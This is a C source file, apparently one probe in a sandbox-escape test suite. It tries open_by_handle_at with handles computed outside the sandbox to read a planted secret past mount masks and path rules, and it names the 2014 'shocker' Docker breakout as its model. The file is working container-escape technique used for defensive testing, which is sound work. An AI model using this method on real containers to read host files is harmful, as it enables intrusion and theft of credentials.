/*
 * open_by_handle: open a file by its filesystem handle instead of its path,
 * bypassing the mount namespace's masks and path-based rules: the hidden
 * secret and a secret in a directory the profile does not grant, whose
 * handles the test computed outside (`open_by_handle print PATH`).
 *
 * Modelled on "shocker" (Sebastian Krahmer, June 2014: Docker < 1.0 left
 * CAP_DAC_READ_SEARCH to containers, and open_by_handle_at(2) with a
 * brute-forced handle read the host's /etc/shadow), the reason Docker's
 * default seccomp profile denies open_by_handle_at.
 *
 * Modes:
 *   open_by_handle print PATH       prints "TYPE HEX" for PATH (run outside)
 *   open_by_handle needle=HEX hidden_handle=TYPE:HEX outside_handle=TYPE:HEX
 */
#include "escape.h"

#include <sys/syscall.h>

static struct file_handle *new_handle(void) {
  struct file_handle *h = calloc(1, sizeof *h + MAX_HANDLE_SZ);
  if (h == NULL) exit(2);
  h->handle_bytes = MAX_HANDLE_SZ;
  return h;
}

static int print_handle(const char *path) {
  struct file_handle *h = new_handle();
  int mount_id = 0;
  if (name_to_handle_at(AT_FDCWD, path, h, &mount_id, 0) != 0) {
    fprintf(stderr, "name_to_handle_at %s: %s\n", path, strerror(errno));
    return 1;
  }
  printf("%d:", h->handle_type);
  for (unsigned i = 0; i < h->handle_bytes; i++) printf("%02x", h->f_handle[i]);
  printf("\n");
  return 0;
}

static void try_handle(const char *check, const char *text) {
  struct file_handle *h = new_handle();
  h->handle_type = atoi(text);
  const char *hex = strchr(text, ':');
  if (hex == NULL) {
    fprintf(stderr, "bad handle %s\n", text);
    exit(2);
  }
  hex++;
  unsigned n = 0;
  for (; hex[2 * n] && hex[2 * n + 1] && n < MAX_HANDLE_SZ; n++) {
    unsigned v = 0;
    sscanf(hex + 2 * n, "%2x", &v);
    h->f_handle[n] = (unsigned char)v;
  }
  h->handle_bytes = n;
  /* Any descriptor on the same filesystem names it; / is the host root's
   * filesystem in the host view. */
  int mount_fd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  int fd = (int)syscall(SYS_open_by_handle_at, mount_fd, h, O_RDONLY | O_CLOEXEC);
  int err = errno;
  free(h);
  close(mount_fd);
  if (fd < 0) {
    held(check, "open_by_handle_at: %s", errname(err));
    return;
  }
  char buf[4096];
  ssize_t got = read(fd, buf, sizeof buf);
  close(fd);
  if (got > 0 && holds_needle(buf, (size_t)got)) escaped(check, "open_by_handle_at opened the file and read the secret");
  else escaped(check, "open_by_handle_at opened the file (read: %s)", got < 0 ? errname(errno) : "no secret");
}

int main(int argc, char **argv) {
  escape_init("open_by_handle", argc, argv);
  if (argc == 3 && strcmp(argv[1], "print") == 0) return print_handle(argv[2]);
  (void)needle();
  try_handle("hidden", need_arg("hidden_handle"));
  try_handle("outside", need_arg("outside_handle"));
  return 0;
}
